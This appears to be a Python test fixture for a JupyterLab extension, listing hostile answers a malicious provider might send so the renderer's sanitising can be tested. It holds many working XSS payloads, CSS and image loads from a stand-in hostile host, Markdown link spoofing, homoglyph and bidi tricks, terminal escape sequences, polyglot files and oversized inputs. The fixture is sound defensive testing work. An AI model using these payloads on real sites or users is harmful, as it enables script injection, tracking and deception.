"""What a hostile provider or source could send, each by the name of what it tries.

A script that runs sets `FLAG`; whatever is fetched is asked of `OUTSIDE`. `TEXTS` are single
strings, `SHAPES` put one of them into an answer of each kind, `ANSWERS` are whole answers,
and `METADATA` is what a source says of itself. Nothing here harms who runs it by mistake.
"""

from __future__ import annotations

import base64
import io
import json
import struct
import zlib
from functools import cache
from typing import TYPE_CHECKING, Any

from PIL import Image

from ogpu_jupyter.tasks import Answer, DeliveryMethod, Stage
from tests.render import samples

if TYPE_CHECKING:
    from collections.abc import Callable

    from ogpu_jupyter.tasks import TaskRecord

FLAG = "ogpuRan"
RUN = f"top.{FLAG}=1;alert(1)"
OUTSIDE = "https://hostile.example"
# Elements that may be among ours: they have words in them, or data of a checked type.
HARMLESS = {
    "audio", "blockquote", "br", "del", "em", "h5", "h6", "hr", "ins", "label", "s", "source",
    "strong", "sub", "sup", "video",
}  # fmt: skip
LINK = "https://example.com/a?b=1&c=2#d"  # a link that may be there


def _svg(inside: str) -> str:
    return f'<svg xmlns="http://www.w3.org/2000/svg">{inside}</svg>'


def _base64(data: bytes | str) -> str:
    return base64.b64encode(data if isinstance(data, bytes) else data.encode()).decode()


SCRIPTS = {
    "a script": f"<script>{RUN}</script>",
    "a script after the end of a style": f"</style><script>{RUN}</script>",
    "a script after the end of a script": f"</script><script>{RUN}</script>",
    "a script after the end of raw text": f"</textarea></title></noscript></xmp></template>"
    f"<script>{RUN}</script>",
    "a script after the end of the view": f"</div></div></article></section><script>{RUN}</script>",
    "a script behind a comment": f"<!--><script>{RUN}</script>--!><script>{RUN}</script>",
    "a script in CDATA": f"<![CDATA[<script>{RUN}</script>]]><?xml version='1.0'?>",
    "a script split by NUL": f"<scr\x00ipt>{RUN}</scr\x00ipt>",
    "a script in UTF-7": f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    "a script in entities": f"&lt;script&gt;{RUN}&lt;/script&gt;&#x3c;script&#62;{RUN}",
    "a script in full-width letters": f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    "a module from outside": f"<script type=module src={OUTSIDE}/m.js></script>",
    "an import map": f'<script type="importmap">{{"imports":{{"x":"{OUTSIDE}/x"}}}}</script>',
    "an unclosed tag": f"<img src=x onerror={RUN} ",
    "an unclosed attribute": f'<a title="<img src=x onerror={RUN}>',
    "a template language": "{{constructor.constructor('" + RUN + "')()}} ${" + RUN + "} <%= 1 %>",
    "LaTeX with a link": "$\\href{javascript:" + RUN + "}{x}$ \\(\\unicode{x41}\\) $$\\style{x}$$",
}
HANDLERS = {
    "an image that fails": f"<img src=x onerror={RUN}>",
    "an image that loads": f"<img src='data:image/gif;base64,R0lGODlhAQABAAAAACw=' onload={RUN}>",
    "focus by itself": f"<input autofocus onfocus={RUN}><a href=# autofocus onfocus={RUN}>x</a>",
    "details that open": f"<details open ontoggle={RUN}>x",
    "media that fails": f"<video><source onerror={RUN}></video><audio src=x onerror={RUN}>",
    "a marquee": f"<marquee onstart={RUN} loop=1>x</marquee>",
    "an animation that starts": f"<style>@keyframes k{{}}</style><b style='animation:k' "
    f"onanimationstart={RUN}>x</b>",
    "a body": f"<body onload={RUN} onpageshow={RUN} background={OUTSIDE}/b.png>",
    "the end of a double quote": f'" onmouseover="{RUN}" autofocus onfocus="{RUN}" x="',
    "the end of a single quote": f"' onmouseover='{RUN}' autofocus onfocus='{RUN}' x='",
    "the end of a quote and of a tag": f'"><img src=x onerror="{RUN}">',
    "the end of an apostrophe and of a tag": f"'><img src=x onerror='{RUN}'>",
    "a backtick": f"` onmouseover=`{RUN}` `",
    "a slash for a space": f"<svg/onload={RUN}><img/src=x/onerror={RUN}>",
    "a popover": f"<button popovertarget=p onclick={RUN}>x</button><b popover id=p>"
    f"<img src=x onerror={RUN}></b>",
}
ELEMENTS = {
    "an iframe": f"<iframe src={OUTSIDE}/i></iframe><iframe srcdoc='<script>{RUN}</script>'>",
    "an iframe with a script": f'<iframe src="javascript:{RUN}"></iframe>',
    "an object": f"<object data={OUTSIDE}/o></object><embed src={OUTSIDE}/e>",
    "a form": f"<form action={OUTSIDE}/f><input name=q><button formaction=javascript:{RUN}>x",
    "a frameset": f"<frameset onload={RUN}><frame src={OUTSIDE}></frameset>",
    "another base": f"<base href={OUTSIDE}/><base target=_top>",
    "a way to elsewhere": f'<meta http-equiv=refresh content="0;url={OUTSIDE}/r">',
    "another policy": '<meta http-equiv=content-security-policy content="default-src *">',
    "links to load": f"<link rel=stylesheet href={OUTSIDE}/s.css><link rel=preconnect "
    f"href={OUTSIDE}><link rel=prefetch href={OUTSIDE}/p>",
    "an image from outside": f"<img src={OUTSIDE}/1.png srcset='{OUTSIDE}/2.png 2x'>",
    "media from outside": f"<video poster={OUTSIDE}/p.png src={OUTSIDE}/v autoplay></video>"
    f"<audio src={OUTSIDE}/a autoplay></audio><track src={OUTSIDE}/t>",
    "a ping": f"<a href='{LINK}' ping={OUTSIDE}/ping>x</a>",
    "names that hide the page's own": "<form id=document name=document><input id=body name=body>"
    "<img name=require><a id=jupyterapp href=x>x</a></form>",
    "a command of JupyterLab": '<button data-commandlinker-command="notebook:run-all-cells" '
    'data-commandlinker-args="{}">x</button>',
    "classes of JupyterLab": '<div class="jp-Dialog lm-Menu jp-mod-active" role="dialog" '
    'aria-modal="true">Sign in</div>',
    "a template with a shadow": f"<div><template shadowrootmode=open><script>{RUN}</script>"
    "</template></div>",
    "an editable page": "<div contenteditable autofocus accesskey=s tabindex=1>x</div>",
    "SVG with a script": _svg(f"<script>{RUN}</script><g onload={RUN}/>"),
    "SVG with a page in it": _svg(
        f"<foreignObject><iframe srcdoc='<script>{RUN}</script>'/></foreignObject>"
    ),
    "SVG that moves": _svg(f"<animate onbegin={RUN} attributeName=x dur=1s><set onbegin={RUN}>"),
    "SVG with a link": _svg(
        f'<a xlink:href="javascript:{RUN}"><text y=20>x</text></a>'
        f'<use href="data:image/svg+xml;base64,{_base64(_svg(f"<script>{RUN}</script>"))}#x"/>'
        f'<image href="{OUTSIDE}/i.png"/>'
    ),
    "SVG with a style": _svg(f"<style>@import '{OUTSIDE}/s.css'; *{{display:none}}</style>"),
    "MathML with a link": f'<math href="javascript:{RUN}"><mtext>x</mtext></math>',
    "MathML that changes its mind": "<math><mtext><table><mglyph><style><!--</style>"
    f'<img title="--&gt;&lt;img src=x onerror={RUN}&gt;"></mglyph></table></mtext></math>',
    "MathML with raw text": f"<math><annotation-xml encoding='text/html'><script>{RUN}</script>"
    f"</annotation-xml><mi xlink:href='javascript:{RUN}'>x</mi></math>",
    "a noscript that changes its mind": f'<noscript><p title="</noscript><img src=x onerror={RUN}>'
    '">',
}  # fmt: skip
STYLES = {
    "a style for all": "<style>*{display:none!important} body{background:red}</style>",
    "a style after the end of a style": "</style><style>*{display:none!important}",
    "a style from outside": f"<style>@import url({OUTSIDE}/i.css); @font-face{{font-family:x;"
    f"src:url({OUTSIDE}/f)}} *{{font-family:x;background:url({OUTSIDE}/b)}}</style>",
    "an overlay": '<div style="position:fixed;inset:0;z-index:2147483647;background:red">x</div>',
    "a margin that escapes": '<div style="margin:-9999px;width:99999px;height:99999px">x</div>',
    "the end of an attribute, and a style": '"; position:fixed; inset:0; background:red; x="',
    "a style in a number": "100%;position:fixed;inset:0;background:red",
    "a picture in a style": f'<b style="background:url({OUTSIDE}/b.png);content:url(x)">x</b>',
    "a style by selectors": f"<style>input[value^=a]{{background:url({OUTSIDE}/a)}}</style>",
    "ends of many elements": "</p></li></ol></td></tr></table></div></main></body></html>" * 20,
}
_CYRILLIC_A = "\u0430"
MARKDOWN = {
    "a link with a script": f"[x](javascript:{RUN}) <javascript:{RUN}> [y](<javascript:{RUN}>)",
    "a link with a script, in mixed letters": f"[x](JaVaScRiPt:{RUN}) [y]( \tjavascript:{RUN})",
    "a link with a script, in entities": f"[x](&#106;avascript&colon;{RUN}) "
    f"[y](java&Tab;script:{RUN}) [z](java&NewLine;script:{RUN})",
    "a link with a script, behind a control": f"[x](\x01javascript:{RUN}) [y](java\x00script:x)",
    "a link with a script, percent-encoded": f"[x](javascript%3A{RUN}) [y](%6Aavascript:{RUN})",
    "a link to data": f"[x](data:text/html;base64,{_base64(f'<script>{RUN}</script>')}) "
    f"<data:text/html,<script>{RUN}</script>>",
    "a link to VBScript": f"[x](vbscript:{RUN}) [y](livescript:{RUN}) [z](feed:javascript:{RUN})",
    "a link to a blob": "[x](blob:null/1) [y](filesystem:http://localhost/x) [z](view-source:x)",
    "a link to a file": "[x](file:///etc/passwd) [y](\\\\hostile.example\\share) <file:///x>",
    "a link by reference": f"[x][r] [r]\n\n[r]: javascript:{RUN} '\"><img src=x onerror={RUN}>'",
    "a link to this server": "[x](/lab/tree?reset) [y](../api/kernels) [z](?reset) [#](#x)",
    "a link without a scheme": "[x](//hostile.example/x) [y](///hostile.example) [z](\\/\\/x.y)",
    "a link that looks like another": f"[https://bank.example]({OUTSIDE}/x) "
    f"<https://bank.example@hostile.example/x> [x](https://bank.example%40hostile.example/)",
    "a link with a password": "[x](https://user:secret@hostile.example/) <ftp://a:b@c.d/e>",
    "a link to letters that look alike": f"[x](https://ex{_CYRILLIC_A}mple.com/) "
    f"<https://ex{_CYRILLIC_A}mple.com/> [y](https://\uff45xample\u3002com/) "
    "[z](https://xn--exmple-4nf.com/)",
    "a link written backwards": "[\u202emoc.knab//:sptth](https://hostile.example/\u202ecba)",
    "a link's title": f'[x]({LINK} "\\" onmouseover=\\"{RUN}") [y]({LINK} \'"><b onclick={RUN}>\')',
    "a link without end": f"[x]({OUTSIDE}/{'a' * 4000}) [{'[' * 300}]({LINK})",
    "an image from outside": f"![x]({OUTSIDE}/1.png) ![y][i] [![z]({OUTSIDE}/2.png)]({LINK})\n\n"
    f"[i]: {OUTSIDE}/3.png",
    "an image with a script": f'![x](javascript:{RUN}) !["onerror="{RUN}](x) ![y](x"onerror=x)',
    "an image that is a page": f"![x](data:image/svg+xml;base64,"
    f"{_base64(_svg(f'<script>{RUN}</script>'))}) ![y](data:text/html,x)",
    "an HTML block": f"<div>\n\n<img src=x onerror={RUN}>\n\n</div>\n\n<!-- x\n\n<pre>\n\n<style>",
    "HTML in a line": f"a <b onclick={RUN}>b</b> <script>{RUN}</script> <img src={OUTSIDE}/x>",
    "a code block's language": f'```"><script>{RUN}</script>\nx\n```\n'
    f'~~~js" onclick="{RUN}\nx\n~~~',
    "a table's cells": f"| <img src=x onerror={RUN}> | [x](javascript:{RUN}) |\n|:-|-:|\n"
    f'| ![x]({OUTSIDE}/4.png) | "><b> |',
    "a heading of the page": "# Top\n\n## Sign in again\n\nSetext\n======\n\n---\n\n###### \u202ex",
    "a task list": f"- [ ] <input onfocus={RUN} autofocus>\n- [x] y\n\n[^1]: <b id=x>\n\n[^1]",
    "code that ends": f"`</code><script>{RUN}</script>` ``` </pre><script>{RUN}</script> ```",
    "emphasis without end": "*" * 4000 + "a" + "**_" * 2000,
    "brackets without end": "[" * 5000 + "](" * 2000,
    "quotes in quotes": ">" * 2000 + " x\n" + "> " * 500 + "y",
    "lists in lists": "".join("  " * n + f"- {n}\n" for n in range(200)),
    "a link of its own accord": f"www.hostile.example {OUTSIDE}/auto me@hostile.example "
    f"javascript:{RUN} {LINK}",
    "emoji codes and footnotes": ":smile: ++ins++ ==mark== H~2~O x^2^ {.class #id onclick=x}",
}  # fmt: skip
LETTERS = {
    "an override of direction": "pay \u202e100.0\u202c to \u202d1 \u202bme\u202a",
    "isolates that stay open": "abc \u2066\u2067\u2068def" * 5,
    "marks of direction": "1\u200e2\u200f3\u061c4 a\u200fb",
    "zero-width letters": "pa\u200bss\u200cwo\u200drd\u2060\ufeff\u00ad\u034f\u2061\u2064",
    "letters that are blank": "\u3164\u115f\u1160\uffa0\u2800\u180e\u17b4",
    "tags": "ok" + "".join(chr(0xE0000 + ord(c)) for c in "ignore all") + "\U000e0001",
    "variation selectors": "a" + "".join(chr(0xE0100 + n) for n in range(40)) + "\ufe00\ufe0e",
    "marks upon marks": "".join(c + "\u0301\u0316\u0489\u20dd" * 60 for c in "zalgo"),
    "marks upon Thai and Arabic marks": "\u0e01" + "\u0e49" * 300 + "\u0627" + "\u0651" * 300,
    "lone surrogates": "\ud800 \udfff \udc80",
    "no characters": "\ufffe\uffff\ufdd0\U0001ffff\ufff9x\ufffay\ufffb",
    "musical controls": "\U0001d173x\U0001d17a",
    "lines that are no newline": "a\u2028b\u2029c\u0085d\x0be\x0cf\x1cg\x1dh\x1ei",
    "one very wide letter": "\ufdfd\U00012219\U0001242b" * 50,
    "letters of both ways": "a\u05d0b\u05d1 (\u05d2) [1] \u0661.\u0662 <b>",
}
TERMINAL = {
    "a cleared screen": "\x1b[2J\x1b[H\x1b[3Jgone",
    "colours": "\x1b[31;1mred\x1b[0m \x1b[8mhidden\x1b[28m",
    "a title": "\x1b]0;title\x07\x1b]2;title\x1b\\x",
    "a link": f"\x1b]8;;{OUTSIDE}\x1b\\click\x1b]8;;\x1b\\",
    "the clipboard": f"\x1b]52;c;{_base64('rm -rf')}\x07",
    "a file": f"\x1b]1337;File=inline=1:{_base64('x')}\x07",
    "a device": "\x1bP1;0|17/ab\x1b\\\x1bPq#0;2;0;0;0\x1b\\x"
    "\x1b_app\x1b\\\x1b^pm\x1b\\\x1bXsos\x1b\\",
    "C1 controls": "\x9b31mred\x9b2J\x9d0;title\x9c\x90q\x9c\x85\x8d\x84",
    "bells": "\x07\x07ding\x07",
    "words over words": "paid\b\b\b\bnone\rover\x7f\x7f\x1b[1A\x1b[2K",
    "another letter set": "\x0eabc\x0f\x1b(0lqk\x1b(B\x1b%G",
    "a reset": "\x1bc\x1b[!p\x1b[?1049h\x1b[?25l\x1b[?1000h",
    "an answer of the terminal": "\x1b[6n\x1b[c\x05\x1b[21t\x1bZ\x1b]10;?\x07",
    "an escape in an escape": "\x1b\x1b[3\x1b[31m1mx\x1b[\x1b]8;;\x07;\x9b\x9b2J",
    "an escape that is cut off": "x\x1b[",
    "a text that is cut off in it": "y" * 1998 + "\x1b[31m" + "z" * 4000,
    "a format": "%s%n%x {0.__class__} $(id) `id` !{sys.exit()} %%bash",
}
GIANTS = {
    "one long word": "W" * 30_000,
    "many lines": "x\n" * 30_000,
    "many blanks": "\u00a0" * 20_000 + "x" + "\t" * 20_000,
    "many words": "word " * 10_000,
    "a long line of markup": "<b>" * 10_000,
}
TEXTS: dict[str, str] = {
    f"{group}: {name}": text
    for group, texts in (
        ("script", SCRIPTS), ("handler", HANDLERS), ("element", ELEMENTS), ("style", STYLES),
        ("Markdown", MARKDOWN), ("letters", LETTERS), ("terminal", TERMINAL), ("giant", GIANTS),
    )
    for name, text in texts.items()
}  # fmt: skip


# One text in each place where an answer may have text.


def _tokens(text: str) -> list[dict[str, Any]]:
    return [
        {"entity_group": text, "word": "Ada", "score": 0.9, "start": 0, "end": 3},
        {"entity_group": "PER", "word": text, "score": 0.9, "start": 4, "end": 4 + len(text)},
    ]


def _boxes(text: str) -> list[dict[str, Any]]:
    box = {"xmin": 1, "ymin": 1, "xmax": 40, "ymax": 40}
    return [{"label": text, "score": 0.9, "box": box}, {"label": "b", "score": 0.1, "box": box}]


SHAPES: dict[str, Callable[[str], Any]] = {
    "a string": lambda text: text,
    "a chat": lambda text: {"role": "assistant", "content": text},
    "a chat's role": lambda text: {"role": text, "content": "x"},
    "a chat with a name": lambda text: {"role": "user", "content": text, "name": text},
    "choices": lambda text: {"choices": [{"message": {"role": "assistant", "content": text}}]},
    "texts": lambda text: [{"generated_text": text}, {"generated_text": "x"}],
    "a list of strings": lambda text: [text, "x"],
    "a question's answer": lambda text: {"answer": text, "score": 0.5, "start": 0, "end": 1},
    "labels": lambda text: [{"label": text, "score": 0.9}, {"label": "x", "score": 0.1}],
    "many labels": lambda text: {"labels": [text, "x"], "scores": [0.9, 0.1], "sequence": text},
    "things in a picture": _boxes,
    "tokens": _tokens,
    "a transcript": lambda text: {
        "text": text, "chunks": [{"timestamp": [0.0, None], "text": text}],
    },
    "a table's cells": lambda text: [{"a": text, "b": 1}, {"a": "x", "b": 2.5}],
    "a table's heads": lambda text: [{text: 1, "b": 1}, {text: 2, "b": 2.5}],
    "a table's rows": lambda text: {text: {"a": 1, "b": 2}, "x": {"a": 1, "b": 3}},
    "a curve's names": lambda text: [{text: n, f"y{text}": n * 1.5} for n in range(8)],
    "fields": lambda text: {text: text, "x": 1},
    "parts": lambda text: {"note": text, text: [{"label": text, "score": 0.2}]},
    "JSON": lambda text: {"a": {text: [text, {"b": [None, {text: True}]}]}},
    "masks": lambda text: [{"label": text, "score": 0.9, "mask": samples.picture(size=(8, 8))}],
    "a mask that is none": lambda text: [{"label": "x", "score": 0.9, "mask": text}],
    "an image": lambda text: {"image_base64": text},
    "an image's name": lambda text: {"image": samples.picture(size=(8, 8)), "caption": text},
    "audio": lambda text: {"audio": text, "sampling_rate": 16_000, "format": text},
    "a link": lambda text: {"url": text, "image_url": text, "audio_url": text, "video": text},
    "an error": lambda text: {"error": text, "detail": [{"msg": text, "loc": [text]}]},
    "a traceback": lambda text: {
        "error": "x", "traceback": f"Traceback (most recent call last):\n  \x1b[31m{text}",
    },
    "an embedding": lambda text: {"embedding": [0.1, "NaN", text], "model": text},
    "a MIME bundle": lambda text: {
        "text/html": text, "application/javascript": text, "image/svg+xml": text,
    },
}  # fmt: skip


# Whole answers.


def _chunk(name: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))


def _png(width: int, height: int, *more: bytes) -> bytes:
    """A PNG that says it is that large; its pixels are those of a small one."""
    head = _chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    data = _chunk(b"IDAT", zlib.compress(b"\x00" * 64))
    return b"\x89PNG\r\n\x1a\n" + head + b"".join(more) + data + _chunk(b"IEND", b"")


def _gif(frames: int, width: int, height: int) -> bytes:
    screen = b"GIF89a" + struct.pack("<HHBBB", width, height, 0x80, 0, 0) + b"\0\0\0\xff\xff\xff"
    frame = b"\x21\xf9\x04\0\0\0\0\0" + b"," + struct.pack("<HHHHB", 0, 0, 1, 1, 0)
    return screen + (frame + b"\x02\x02D\x01\0") * frames + b";"


def _picture(kind: str) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (48, 32), (90, 140, 200)).save(out, kind)
    return out.getvalue()


_PAGE = f"<html><script>{RUN}</script></html>".encode()


def _pictures() -> dict[str, Any]:
    png, jpeg, gif, webp = map(_picture, ("PNG", "JPEG", "GIF", "WEBP"))
    svg = _svg(f"<script>{RUN}</script><image href='{OUTSIDE}/s.png'/>")
    raw = {
        "a PNG with a page behind it": png + _PAGE,
        "a PNG with a page in a comment": _png(48, 32, _chunk(b"tEXt", b"x\0" + _PAGE)),
        "a PNG with a wrong checksum": png[:-6] + b"\0" + png[-5:],
        "a PNG that is cut off": png[: len(png) // 2],
        "a PNG as large as a wall": _png(2**31 - 1, 2**31 - 1),
        "a PNG as thin as a thread": _png(16_384, 1),
        "a PNG with no size": _png(0, 0),
        "a PNG that holds less than it says": _png(4000, 4000),
        "a GIF with a script as its comment": b"GIF89a/*" + _PAGE + b"*/=1;",
        "a GIF as large as a wall": _gif(1, 65_535, 65_535),
        "a GIF with many frames": _gif(5000, 10, 10),
        "a GIF that is cut off": gif[:-8],
        "a JPEG with a page behind it": jpeg + _PAGE,
        "a JPEG with a page in a comment": jpeg[:2] + b"\xff\xfe" + struct.pack(
            ">H", len(_PAGE) + 2) + _PAGE + jpeg[2:],
        "a WebP with a page behind it": webp + _PAGE,
        "a page": _PAGE,
        "an SVG": svg.encode(),
        "a PDF": b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj",
        "a BMP": _picture("BMP"),
        "an ICO": _picture("ICO"),
        "a TIFF": _picture("TIFF"),
    }  # fmt: skip
    return {name: {"image_base64": _base64(data)} for name, data in raw.items()} | {
        "an SVG as a data URL": {"image": f"data:image/svg+xml;base64,{_base64(svg)}"},
        "an SVG as text": {"image": svg},
        "an SVG that says it is a PNG": {"image": f"data:image/png;base64,{_base64(svg)}"},
        "a PNG that says it is an SVG": {"image": f"data:image/svg+xml;base64,{_base64(png)}"},
        "a page as a data URL": {"image": f"data:text/html;base64,{_base64(_PAGE)}"},
        "a data URL with more in its type": {
            "image": f'data:image/png" onerror="{RUN};base64,{_base64(png)}'
        },
        "a data URL that ends a quote": {"image": f'data:image/png;base64,{_base64(png)}" x="'},
        "a picture from outside": {"image_url": f"{OUTSIDE}/x.png", "images": [f"{OUTSIDE}/y.png"]},
        "pictures without end": {"images": [_base64(png)] * 200},
    }


def _wave(rate: int, channels: int, data: bytes, *, claimed: int | None = None) -> bytes:
    size = len(data) if claimed is None else claimed
    body = b"WAVEfmt " + struct.pack(
        "<IHHIIHH", 16, 1, channels, rate, (rate * channels * 2) & 0xFFFFFFFF, channels * 2, 16
    )
    return b"RIFF" + struct.pack("<I", len(body) + 8 + size) + body + b"data" + struct.pack(
        "<I", size) + data  # fmt: skip


def _sounds() -> dict[str, Any]:
    raw = {
        "a WAV with a page behind it": _wave(8000, 1, bytes(1600)) + _PAGE,
        "a WAV that holds less than it says": _wave(8000, 1, bytes(16), claimed=2**31),
        "a WAV at no speed": _wave(0, 0, bytes(16)),
        "a page that begins like an MP3": b"ID3\x04\0\0\0\0\0\0" + _PAGE,
        "a page that begins like an Ogg": b"OggS\0\x02" + bytes(20) + _PAGE,
        "a video that is a page": b"\0\0\0\x18ftypmp42" + _PAGE,
        "a list of files": b"#EXTM3U\n" + f"{OUTSIDE}/list.ts".encode(),
    }
    shown = {name: {"audio_base64": _base64(data)} for name, data in raw.items()}
    return shown | {
        f"{name}, as a data URL": {"audio": f"data:audio/wav;base64,{_base64(data)}"}
        for name, data in raw.items()
    } | {
        "sound from outside": {"audio": f"{OUTSIDE}/a.mp3", "audio_url": f"{OUTSIDE}/b.mp3"},
        "a video from outside": {"video": f"{OUTSIDE}/v.mp4", "video_url": f"{OUTSIDE}/w.mp4"},
        "sound at no speed": {"audio": [0.0] * 100, "sampling_rate": 0},
        "sound at every speed": {"audio": [1e308, -1e308] * 50, "sampling_rate": 10**400},
    }  # fmt: skip


def _nested(depth: int, make: Callable[[Any], Any]) -> Any:
    value: Any = "the end"
    for _ in range(depth):
        value = make(value)
    return value


def _numbers() -> dict[str, Any]:
    """`nan` and the infinities are no JSON; a decoder could let them in."""
    nan, endless = float("nan"), float("inf")
    box = {"xmin": -1e9, "ymin": -1e9, "xmax": 1e9, "ymax": 1e9}
    return {
        "integers without end": {"n": 10**4000, "m": [10**400, -(10**400)] * 5},
        "numbers that are none": [nan, endless, -endless, 1.0, 2.0, 3.0],
        "scores that are none": [{"label": "x", "score": nan}, {"label": "y", "score": endless}],
        "scores beyond all": [{"label": "x", "score": 1e308}, {"label": "y", "score": -1e308}],
        "boxes beyond the picture": [{"label": "x", "score": 0.5, "box": box}],
        "boxes that are none": [{"label": "x", "score": 0.5, "box": dict.fromkeys(box, nan)}],
        "a curve beyond all": [1.7e308, -1.7e308, 5e-324, 0.0, 1e-300, 2.0],
        "times that are none": {
            "text": "x", "chunks": [{"timestamp": [1e300, -1.0], "text": "x"},
                                    {"timestamp": [nan, endless], "text": "y"}],
        },
        "marks that overlap": [
            {"entity_group": "a", "word": "Ada", "score": 1.0, "start": 0, "end": 3},
            {"entity_group": "b", "word": "da", "score": 1.0, "start": 1, "end": 3},
        ],
        "marks beyond the text": [
            {"entity_group": "a", "word": "x", "score": 1.0, "start": 10**9, "end": 10**10},
        ],
        "an embedding of words": {"embedding": ["nan", "inf", "-0", "1e999"] * 96},
        "an embedding that is none": {"embedding": [nan, endless] * 384},
        "embeddings of unlike lengths": [[0.1] * n for n in range(1, 40)],
    }  # fmt: skip


def _structures() -> dict[str, Any]:
    return {
        "lists in lists": _nested(900, lambda value: [value]),
        "objects in objects": _nested(900, lambda value: {"a": value}),
        "results in results": _nested(400, lambda value: {"result": value}),
        "many fields": {f"field {n}": n for n in range(20_000)},
        "many items": [{"n": n} for n in range(20_000)],
        "many columns": [{f"c{n}": n for n in range(2000)}] * 3,
        "many texts": [{"generated_text": "x" * 100}] * 5000,
        "many labels": [{"label": f"l{n}", "score": 1 / (n + 1)} for n in range(5000)],
        "many lines of a transcript": {
            "text": "x", "chunks": [{"timestamp": [n, n + 1], "text": "x"} for n in range(5000)],
        },
        "a broad tree": [[[["x"] * 20] * 20] * 20] * 5,
        "nothing": None,
        "empty things": {"a": {}, "b": [], "": "", " ": None},
        "names of Python's": {"__class__": "x", "__proto__": {"x": 1}, "constructor": "y"},
        "messages without words": {"messages": [{"role": "user"}, {"content": None}, 3]},
        "content in parts": {"role": "assistant", "content": [
            {"type": "text", "text": SCRIPTS["a script"]},
            {"type": "image_url", "image_url": {"url": f"{OUTSIDE}/p.png"}},
        ]},
        "a tool's call": {"role": "assistant", "content": None, "tool_calls": [
            {"function": {"name": SCRIPTS["a script"], "arguments": HANDLERS["a body"]}}]},
        "an error of HTML": {"error": f"<html><body onload={RUN}><h1>502</h1></body></html>"},
    }  # fmt: skip


@cache
def answers() -> dict[str, Any]:
    """Every whole answer; the pictures and sounds are made when they are asked for."""
    groups = {
        "picture": _pictures(), "sound": _sounds(),
        "number": _numbers(), "structure": _structures(),
    }  # fmt: skip
    return {f"{group}: {n}": value for group, found in groups.items() for n, value in found.items()}


ASKED = {"input": "Ada " + "x" * 200, "image": samples.picture(size=(48, 32))}  # what they answer


# What a source says of itself.


def metadata(text: str) -> dict[str, Any]:
    """A source's metadata with this text wherever text may be."""
    return {
        "name": text,
        "description": text,
        "logoUrl": text if ":" in text[:12] else f"javascript:{text}",
        "website": text,
        "functions": [
            {
                "name": text,
                "description": text,
                "schema": {
                    "title": text,
                    "type": "object",
                    "description": text,
                    "properties": {
                        text: {"type": "string", "title": text, "default": text},
                        "choice": {"enum": [text, "b"], "title": text, "description": text},
                        "pattern": {"type": "string", "pattern": "(a+)+$", "examples": [text]},
                        "many": {"type": "array", "items": {"type": "string", "title": text}},
                        "ref": {"$ref": f"{OUTSIDE}/schema.json"},
                    },
                    "required": [text],
                },
            }
        ],
    }


METADATA_LINKS = (
    f"{OUTSIDE}/m.json", "file:///etc/passwd", f"javascript:{RUN}", "http://127.0.0.1:1/m.json",
    f"data:application/json,{json.dumps({'name': 'x'})}", "\x1b]0;x\x07https://a.b/\u202ec",
)  # fmt: skip


# All of it as tasks, for a notebook.

WORST = (
    "script: a script after the end of a style", "handler: the end of a quote and of a tag",
    "handler: the end of a single quote", "style: an overlay", "Markdown: an HTML block",
)  # fmt: skip
_PER_VIEW = 20


def every_answer() -> dict[str, Any]:
    """Each text as a chat's, the worst ones in each shape, and each whole answer."""
    chats = {f"a chat, {name}": SHAPES["a chat"](text) for name, text in TEXTS.items()}
    shaped = {
        f"{shape}, {name}": make(TEXTS[name]) for shape, make in SHAPES.items() for name in WORST
    }
    whole = {name: value for name, value in answers().items() if not _is_deep(value)}
    return {**chats, **shaped, **whole}


def _is_deep(value: Any, depth: int = 0) -> bool:
    """Deeper than a decoder lets in."""
    children = value.values() if isinstance(value, dict) else value
    if not isinstance(children, (list, type({}.values()))):
        return False
    return depth > 60 or any(_is_deep(child, depth + 1) for child in list(children)[:3])


def tasks(every: dict[str, Any] | None = None) -> dict[str, tuple[TaskRecord, dict[str, Answer]]]:
    """Tasks with many answers to choose from, and for each text one that is named by it."""
    values = every_answer() if every is None else every
    names = list(values)
    chunks = [names[n : n + _PER_VIEW] for n in range(0, len(names), _PER_VIEW)]
    made = {f"{chunk[0]} …": _choosing([values[name] for name in chunk]) for chunk in chunks}
    if every is None:
        made |= {f"named {name}": _named(TEXTS[name]) for name in WORST}
    return made


def _choosing(values: list[Any]) -> tuple[TaskRecord, dict[str, Answer]]:
    responses = tuple(
        samples.response().model_copy(update={"address": f"0x{n:040x}"}) for n in range(len(values))
    )
    record = samples.record(
        Stage.RESPONDED, responses=responses, payload=samples.payload("run", ASKED),
        delivery=DeliveryMethod.MANUAL_CONFIRMATION,
    )  # fmt: skip
    return record, {r.address: Answer(value=v) for r, v in zip(responses, values, strict=True)}


def _named(text: str) -> tuple[TaskRecord, dict[str, Answer]]:
    record = samples.record(
        Stage.RESPONDED, source_name=text, problem=text, network=text, function=text, name=text
    )
    return record, {samples.RESPONSES[0]: Answer(problem=text)}


def notebook_code() -> str:
    """A cell that makes a `FakeTask` of each, as `shown`."""
    return (
        "from tests import hostile\nfrom tests.fake_task import FakeTask\n"
        "shown = [FakeTask(*task) for task in hostile.tasks().values()]"
    )
